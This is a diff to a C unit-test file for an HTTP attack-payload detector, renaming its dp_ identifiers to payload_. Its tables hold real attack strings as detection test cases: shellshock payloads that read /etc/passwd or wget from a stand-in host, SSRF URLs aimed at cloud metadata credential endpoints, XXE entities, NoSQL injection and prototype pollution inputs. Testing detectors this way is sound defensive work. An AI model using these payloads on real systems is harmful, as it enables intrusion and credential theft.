@@ -3,7 +3,7 @@
  * prototype pollution, SSRF to metadata services, log4j lookups): tables of
  * attacks written from each class's grammar and of benign values that look
  * like them. Every value is sent the way a client sends a form field: as
- * "q=<percent-encoded value>" through dp_scan_query, in a query and in a
+ * "q=<percent-encoded value>" through payload_scan_query, in a query and in a
  * form body, so the decoding layers are the ones a server sees. An attack
  * must draw its own kind; a benign value must draw nothing at all.
  * SW_SHOW_RATES=1 prints the catch rate per class (any kind and own kind). */
@@ -21,7 +21,7 @@
 
 struct icase {
 	const char *in;
-	enum dp_kind want; /* DP_NONE: benign, nothing may match */
+	enum payload_kind want; /* PAYLOAD_NONE: benign, nothing may match */
 };
 
 /* "q=" and the value with every byte but the unreserved ones as %XX, the
@@ -53,19 +53,19 @@ static unsigned kinds_of(const char *v, int *score, const char **why)
 {
 	static char enc[16384];
 	static char whybuf[96];
-	struct dp_match m[DP__COUNT];
+	struct payload_match m[PAYLOAD__COUNT];
 	unsigned set = 0;
 	size_t n = form_encode(v, enc, sizeof(enc));
 
 	*score = 0;
 	*why = "";
 	for (int pass = 0; pass < 2; pass++) {
-		int k = dp_scan_query(enc, n, pass ? DP_WHERE_BODY : DP_WHERE_QUERY, m, DP__COUNT);
+		int k = payload_scan_query(enc, n, pass ? PAYLOAD_WHERE_BODY : PAYLOAD_WHERE_QUERY, m, PAYLOAD__COUNT);
 		for (int i = 0; i < k; i++) {
 			set |= 1u << m[i].kind;
 			if (m[i].score > *score) {
 				*score = m[i].score;
-				snprintf(whybuf, sizeof(whybuf), "%s: %s", dp_kind_names[m[i].kind], m[i].why);
+				snprintf(whybuf, sizeof(whybuf), "%s: %s", payload_kind_names[m[i].kind], m[i].why);
 				*why = whybuf;
 			}
 		}
@@ -83,7 +83,7 @@ static void run_itable(const char *cls, const struct icase *t, size_t n)
 		unsigned set = kinds_of(t[i].in, &score, &why);
 		int ok;
 
-		if (t[i].want == DP_NONE) {
+		if (t[i].want == PAYLOAD_NONE) {
 			ok = set == 0;
 		} else {
 			pos++;
@@ -94,7 +94,7 @@ static void run_itable(const char *cls, const struct icase *t, size_t n)
 		if (!ok) {
 			bad++;
 			fprintf(stderr, "  FAIL %s %s: [%s] (%d) %s\n", cls,
-				t[i].want == DP_NONE ? "benign flagged" : "attack missed", t[i].in,
+				t[i].want == PAYLOAD_NONE ? "benign flagged" : "attack missed", t[i].in,
 				score, why);
 		}
 	}
@@ -104,9 +104,9 @@ static void run_itable(const char *cls, const struct icase *t, size_t n)
 	assert_int_equal(bad, 0);
 }
 
-#define T DP_TRAVERSAL
-#define C DP_CMDI
-#define N DP_NONE
+#define T PAYLOAD_TRAVERSAL
+#define C PAYLOAD_CMDI
+#define N PAYLOAD_NONE
 
 static void test_traversal_encodings(void **st)
 {
@@ -389,19 +389,19 @@ static void test_shellshock(void **st)
 {
 	(void)st;
 	static const struct icase t[] = {
-		{"() { :; }; echo vulnerable", DP_SHELLSHOCK},
-		{"() { :;}; /bin/bash -c 'cat /etc/passwd'", DP_SHELLSHOCK},
-		{"() { _; } >_[$($())] { id; }", DP_SHELLSHOCK},
-		{"() { :; }; /usr/bin/id", DP_SHELLSHOCK},
-		{"() { ignored; }; echo Content-Type: text/plain; echo; /bin/cat /etc/passwd", DP_SHELLSHOCK},
-		{"() { x() { _; }; x() { _; } <<a; }", DP_SHELLSHOCK},
-		{"() {:;}; ping -c 1 x.example", DP_SHELLSHOCK},
-		{"(){ :; }; sleep 5", DP_SHELLSHOCK},
-		{"() { 0; }; id", DP_SHELLSHOCK},
-		{" () { :; }; echo; echo; /bin/bash -c 'uname -a'", DP_SHELLSHOCK},
-		{"() { :; }; wget http://x.example/a", DP_SHELLSHOCK},
-		{"%28%29%20%7B%20%3A%3B%20%7D%3B%20id", DP_SHELLSHOCK},
-		{"() { :; }", DP_SHELLSHOCK},
+		{"() { :; }; echo vulnerable", PAYLOAD_SHELLSHOCK},
+		{"() { :;}; /bin/bash -c 'cat /etc/passwd'", PAYLOAD_SHELLSHOCK},
+		{"() { _; } >_[$($())] { id; }", PAYLOAD_SHELLSHOCK},
+		{"() { :; }; /usr/bin/id", PAYLOAD_SHELLSHOCK},
+		{"() { ignored; }; echo Content-Type: text/plain; echo; /bin/cat /etc/passwd", PAYLOAD_SHELLSHOCK},
+		{"() { x() { _; }; x() { _; } <<a; }", PAYLOAD_SHELLSHOCK},
+		{"() {:;}; ping -c 1 x.example", PAYLOAD_SHELLSHOCK},
+		{"(){ :; }; sleep 5", PAYLOAD_SHELLSHOCK},
+		{"() { 0; }; id", PAYLOAD_SHELLSHOCK},
+		{" () { :; }; echo; echo; /bin/bash -c 'uname -a'", PAYLOAD_SHELLSHOCK},
+		{"() { :; }; wget http://x.example/a", PAYLOAD_SHELLSHOCK},
+		{"%28%29%20%7B%20%3A%3B%20%7D%3B%20id", PAYLOAD_SHELLSHOCK},
+		{"() { :; }", PAYLOAD_SHELLSHOCK},
 		/* benign */
 		{"function() { return 1; }", N},
 		{"foo() { bar; }", N},
@@ -415,7 +415,7 @@ static void test_shellshock(void **st)
 	run_itable("shellshock", t, sizeof(t) / sizeof(t[0]));
 }
 
-#define X DP_XXE
+#define X PAYLOAD_XXE
 
 static void test_xxe(void **st)
 {
@@ -454,7 +454,7 @@ static void test_xxe(void **st)
 	run_itable("xxe", t, sizeof(t) / sizeof(t[0]));
 }
 
-#define S DP_NOSQLI
+#define S PAYLOAD_NOSQLI
 
 static void test_nosqli(void **st)
 {
@@ -496,7 +496,7 @@ static void test_nosqli(void **st)
 static void test_nosqli_keys(void **st)
 {
 	(void)st;
-	struct dp_match m[DP__COUNT];
+	struct payload_match m[PAYLOAD__COUNT];
 	static const char *const atk[] = {
 		"username[$ne]=x&password[$ne]=x",
 		"user[$regex]=.*&pass[$regex]=.*",
@@ -512,28 +512,28 @@ static void test_nosqli_keys(void **st)
 		"$skip=20&$orderby=date",
 	};
 	for (size_t i = 0; i < sizeof(atk) / sizeof(atk[0]); i++) {
-		int n = dp_scan_query(atk[i], strlen(atk[i]), DP_WHERE_QUERY, m, DP__COUNT), hit = 0;
+		int n = payload_scan_query(atk[i], strlen(atk[i]), PAYLOAD_WHERE_QUERY, m, PAYLOAD__COUNT), hit = 0;
 		for (int k = 0; k < n; k++)
-			hit |= m[k].kind == DP_NOSQLI;
+			hit |= m[k].kind == PAYLOAD_NOSQLI;
 		if (!hit)
 			fprintf(stderr, "  FAIL nosqli key missed: %s\n", atk[i]);
 		assert_true(hit);
 	}
 	for (size_t i = 0; i < sizeof(ok) / sizeof(ok[0]); i++) {
-		int n = dp_scan_query(ok[i], strlen(ok[i]), DP_WHERE_QUERY, m, DP__COUNT);
+		int n = payload_scan_query(ok[i], strlen(ok[i]), PAYLOAD_WHERE_QUERY, m, PAYLOAD__COUNT);
 		if (n)
 			fprintf(stderr, "  FAIL benign query flagged: %s (%s)\n", ok[i], m[0].why);
 		assert_int_equal(n, 0);
 	}
 	const char *j = "{\"username\":{\"$ne\":null},\"password\":{\"$ne\":null}}";
-	int n = dp_scan_json(j, strlen(j), m, DP__COUNT);
+	int n = payload_scan_json(j, strlen(j), m, PAYLOAD__COUNT);
 	assert_true(n >= 1);
-	assert_int_equal(m[0].kind, DP_NOSQLI);
+	assert_int_equal(m[0].kind, PAYLOAD_NOSQLI);
 	j = "{\"$schema\":\"https://json-schema.org/draft/2020-12/schema\",\"$id\":\"x\",\"price\":{\"$numberDecimal\":\"9.99\"},\"at\":{\"$date\":\"2024-01-01\"}}";
-	assert_int_equal(dp_scan_json(j, strlen(j), m, DP__COUNT), 0);
+	assert_int_equal(payload_scan_json(j, strlen(j), m, PAYLOAD__COUNT), 0);
 }
 
-#define PP DP_PROTO_POLLUTION
+#define PP PAYLOAD_PROTO_POLLUTION
 
 static void test_proto_pollution(void **st)
 {
@@ -557,48 +557,48 @@ static void test_proto_pollution(void **st)
 		{"_proto_", N},
 	};
 	run_itable("proto_pollution", t, sizeof(t) / sizeof(t[0]));
-	struct dp_match m[DP__COUNT];
+	struct payload_match m[PAYLOAD__COUNT];
 	const char *q = "__proto__%5Badmin%5D=1";
-	assert_int_equal(dp_scan_query(q, strlen(q), DP_WHERE_QUERY, m, DP__COUNT), 1);
-	assert_int_equal(m[0].kind, DP_PROTO_POLLUTION);
+	assert_int_equal(payload_scan_query(q, strlen(q), PAYLOAD_WHERE_QUERY, m, PAYLOAD__COUNT), 1);
+	assert_int_equal(m[0].kind, PAYLOAD_PROTO_POLLUTION);
 	const char *j = "{\"a\":1,\"constructor\":{\"prototype\":{\"isAdmin\":true}}}";
-	assert_true(dp_scan_json(j, strlen(j), m, DP__COUNT) >= 1);
-	assert_int_equal(m[0].kind, DP_PROTO_POLLUTION);
+	assert_true(payload_scan_json(j, strlen(j), m, PAYLOAD__COUNT) >= 1);
+	assert_int_equal(m[0].kind, PAYLOAD_PROTO_POLLUTION);
 	j = "{\"__proto__\":{\"isAdmin\":true}}";
-	assert_true(dp_scan_json(j, strlen(j), m, DP__COUNT) >= 1);
-	assert_int_equal(m[0].kind, DP_PROTO_POLLUTION);
+	assert_true(payload_scan_json(j, strlen(j), m, PAYLOAD__COUNT) >= 1);
+	assert_int_equal(m[0].kind, PAYLOAD_PROTO_POLLUTION);
 	j = "{\"constructor\":\"Acme Builders\",\"prototype\":\"v2\"}";
-	assert_int_equal(dp_scan_json(j, strlen(j), m, DP__COUNT), 0);
+	assert_int_equal(payload_scan_json(j, strlen(j), m, PAYLOAD__COUNT), 0);
 }
 
 static void test_ssrf_metadata(void **st)
 {
 	(void)st;
 	static const struct icase t[] = {
-		{"http://169.254.169.254/latest/meta-data/iam/security-credentials/", DP_SSRF},
-		{"http://[fd00:ec2::254]/latest/meta-data/", DP_SSRF},
-		{"http://metadata.google.internal/computeMetadata/v1/?recursive=true", DP_SSRF},
-		{"http://2852039166/latest/meta-data/", DP_SSRF},
-		{"http://0xa9fea9fe/", DP_SSRF},
-		{"http://0251.0376.0251.0376/", DP_SSRF},
-		{"http://0xA9.0xFE.0xA9.0xFE/", DP_SSRF},
-		{"http://[::ffff:a9fe:a9fe]/", DP_SSRF},
-		{"http://[::ffff:169.254.169.254]/", DP_SSRF},
-		{"http://instance-data/latest/", DP_SSRF},
-		{"http://169.254.170.2/v2/credentials", DP_SSRF},
-		{"http://100.100.100.200/latest/meta-data/", DP_SSRF},
-		{"http://192.0.0.192/latest/", DP_SSRF},
-		{"169.254.169.254/latest/meta-data", DP_SSRF},
-		{"169.254.169.254", DP_SSRF},
-		{"//169.254.169.254/latest/", DP_SSRF},
-		{"metadata.google.internal/computeMetadata/v1/", DP_SSRF},
-		{"[fd00:ec2::254]", DP_SSRF},
-		{"http://169.254.169.254.nip.io/", DP_SSRF},
-		{"http://metadata.google.internal./", DP_SSRF},
-		{"HTTP://169.254.169.254/", DP_SSRF},
-		{"http://169.254.169.254:80/latest", DP_SSRF},
-		{"{\"url\": \"http://169.254.169.254/latest/user-data\"}", DP_SSRF},
-		{"http://localtest.me/", DP_SSRF},
+		{"http://169.254.169.254/latest/meta-data/iam/security-credentials/", PAYLOAD_SSRF},
+		{"http://[fd00:ec2::254]/latest/meta-data/", PAYLOAD_SSRF},
+		{"http://metadata.google.internal/computeMetadata/v1/?recursive=true", PAYLOAD_SSRF},
+		{"http://2852039166/latest/meta-data/", PAYLOAD_SSRF},
+		{"http://0xa9fea9fe/", PAYLOAD_SSRF},
+		{"http://0251.0376.0251.0376/", PAYLOAD_SSRF},
+		{"http://0xA9.0xFE.0xA9.0xFE/", PAYLOAD_SSRF},
+		{"http://[::ffff:a9fe:a9fe]/", PAYLOAD_SSRF},
+		{"http://[::ffff:169.254.169.254]/", PAYLOAD_SSRF},
+		{"http://instance-data/latest/", PAYLOAD_SSRF},
+		{"http://169.254.170.2/v2/credentials", PAYLOAD_SSRF},
+		{"http://100.100.100.200/latest/meta-data/", PAYLOAD_SSRF},
+		{"http://192.0.0.192/latest/", PAYLOAD_SSRF},
+		{"169.254.169.254/latest/meta-data", PAYLOAD_SSRF},
+		{"169.254.169.254", PAYLOAD_SSRF},
+		{"//169.254.169.254/latest/", PAYLOAD_SSRF},
+		{"metadata.google.internal/computeMetadata/v1/", PAYLOAD_SSRF},
+		{"[fd00:ec2::254]", PAYLOAD_SSRF},
+		{"http://169.254.169.254.nip.io/", PAYLOAD_SSRF},
+		{"http://metadata.google.internal./", PAYLOAD_SSRF},
+		{"HTTP://169.254.169.254/", PAYLOAD_SSRF},
+		{"http://169.254.169.254:80/latest", PAYLOAD_SSRF},
+		{"{\"url\": \"http://169.254.169.254/latest/user-data\"}", PAYLOAD_SSRF},
+		{"http://localtest.me/", PAYLOAD_SSRF},
 		/* benign */
 		{"https://api.example.com/v1/items", N},
 		{"10.0.0.1", N},
@@ -612,7 +612,7 @@ static void test_ssrf_metadata(void **st)
 	run_itable("ssrf", t, sizeof(t) / sizeof(t[0]));
 }
 
-#define J DP_JNDI
+#define J PAYLOAD_JNDI
 
 static void test_log4j(void **st)
 {
@@ -650,43 +650,43 @@ static void test_log4j(void **st)
 static void test_where(void **st)
 {
 	(void)st;
-	struct dp_match m[DP__COUNT];
+	struct payload_match m[PAYLOAD__COUNT];
 	const char *v = "() { :; }; /bin/cat /etc/passwd";
-	int n = dp_scan(v, strlen(v), DP_WHERE_HEADER, m, DP__COUNT), hit = 0;
+	int n = payload_scan(v, strlen(v), PAYLOAD_WHERE_HEADER, m, PAYLOAD__COUNT), hit = 0;
 	for (int i = 0; i < n; i++)
-		hit |= m[i].kind == DP_SHELLSHOCK;
+		hit |= m[i].kind == PAYLOAD_SHELLSHOCK;
 	assert_true(hit);
 	/* a request path that climbs past its root */
 	v = "/static/..%2f..%2f..%2fetc/passwd";
-	n = dp_scan(v, strlen(v), DP_WHERE_PATH, m, DP__COUNT);
+	n = payload_scan(v, strlen(v), PAYLOAD_WHERE_PATH, m, PAYLOAD__COUNT);
 	assert_true(n >= 1);
-	assert_int_equal(m[0].kind, DP_TRAVERSAL);
+	assert_int_equal(m[0].kind, PAYLOAD_TRAVERSAL);
 	v = "/api/files/..;/admin";
-	n = dp_scan(v, strlen(v), DP_WHERE_PATH, m, DP__COUNT);
+	n = payload_scan(v, strlen(v), PAYLOAD_WHERE_PATH, m, PAYLOAD__COUNT);
 	assert_int_equal(n, 0);
 	/* XML bodies: the prolog is judged whole, the text as values */
 	v = "<?xml version=\"1.0\"?>\n<!DOCTYPE r [\n <!ENTITY x SYSTEM \"file:///etc/passwd\">\n]>\n<r>&x;</r>";
-	n = dp_scan_xml(v, strlen(v), m, DP__COUNT);
+	n = payload_scan_xml(v, strlen(v), m, PAYLOAD__COUNT);
 	assert_true(n >= 1);
-	assert_int_equal(m[0].kind, DP_XXE);
+	assert_int_equal(m[0].kind, PAYLOAD_XXE);
 	v = "<order><id>42</id><note>cats &amp; dogs; birds</note><item sku=\"A-1\">Rock &amp; Roll</item></order>";
-	assert_int_equal(dp_scan_xml(v, strlen(v), m, DP__COUNT), 0);
+	assert_int_equal(payload_scan_xml(v, strlen(v), m, PAYLOAD__COUNT), 0);
 	v = "<order><note>x' union select password from users--</note></order>";
-	n = dp_scan_xml(v, strlen(v), m, DP__COUNT);
+	n = payload_scan_xml(v, strlen(v), m, PAYLOAD__COUNT);
 	assert_true(n >= 1);
-	assert_int_equal(m[0].kind, DP_SQLI);
+	assert_int_equal(m[0].kind, PAYLOAD_SQLI);
 	v = "<q a=\"../../../etc/passwd\"/>";
-	n = dp_scan_xml(v, strlen(v), m, DP__COUNT);
+	n = payload_scan_xml(v, strlen(v), m, PAYLOAD__COUNT);
 	assert_true(n >= 1);
-	assert_int_equal(m[0].kind, DP_TRAVERSAL);
+	assert_int_equal(m[0].kind, PAYLOAD_TRAVERSAL);
 }
 
-static enum dp_kind kind_named(const char *s, size_t l)
+static enum payload_kind kind_named(const char *s, size_t l)
 {
-	for (int k = 1; k < DP__COUNT; k++)
-		if (strlen(dp_kind_names[k]) == l && !memcmp(dp_kind_names[k], s, l))
-			return (enum dp_kind)k;
-	return DP_NONE;
+	for (int k = 1; k < PAYLOAD__COUNT; k++)
+		if (strlen(payload_kind_names[k]) == l && !memcmp(payload_kind_names[k], s, l))
+			return (enum payload_kind)k;
+	return PAYLOAD_NONE;
 }
 
 /* tests/data/attacks-data.txt: every line draws its kind */
@@ -703,7 +703,7 @@ static void test_attack_file(void **st)
 		char *tab = strchr(line, '\t');
 		int score;
 		const char *why;
-		enum dp_kind k;
+		enum payload_kind k;
 
 		while (l && (line[l - 1] == '\n' || line[l - 1] == '\r'))
 			line[--l] = '\0';
@@ -711,12 +711,12 @@ static void test_attack_file(void **st)
 			continue;
 		assert_non_null(tab);
 		k = kind_named(line, (size_t)(tab - line));
-		assert_int_not_equal(k, DP_NONE);
+		assert_int_not_equal(k, PAYLOAD_NONE);
 		total++;
 		if ((kinds_of(tab + 1, &score, &why) >> k) & 1)
 			own++;
 		else
-			fprintf(stderr, "  FAIL %s missed: [%s] (%d) %s\n", dp_kind_names[k], tab + 1,
+			fprintf(stderr, "  FAIL %s missed: [%s] (%d) %s\n", payload_kind_names[k], tab + 1,
 				score, why);
 	}
 	fclose(f);
@@ -758,12 +758,12 @@ static void test_benign_as_form(void **st)
 static void test_names(void **st)
 {
 	(void)st;
-	assert_string_equal(dp_kind_names[DP_XXE], "xxe");
-	assert_string_equal(dp_kind_names[DP_NOSQLI], "nosqli");
-	assert_string_equal(dp_kind_names[DP_PROTO_POLLUTION], "proto_pollution");
-	assert_string_equal(dp_kind_names[DP_SHELLSHOCK], "shellshock");
-	for (int k = 1; k < DP__COUNT; k++)
-		assert_non_null(dp_kind_names[k]);
+	assert_string_equal(payload_kind_names[PAYLOAD_XXE], "xxe");
+	assert_string_equal(payload_kind_names[PAYLOAD_NOSQLI], "nosqli");
+	assert_string_equal(payload_kind_names[PAYLOAD_PROTO_POLLUTION], "proto_pollution");
+	assert_string_equal(payload_kind_names[PAYLOAD_SHELLSHOCK], "shellshock");
+	for (int k = 1; k < PAYLOAD__COUNT; k++)
+		assert_non_null(payload_kind_names[k]);
 }
 
 int main(void)
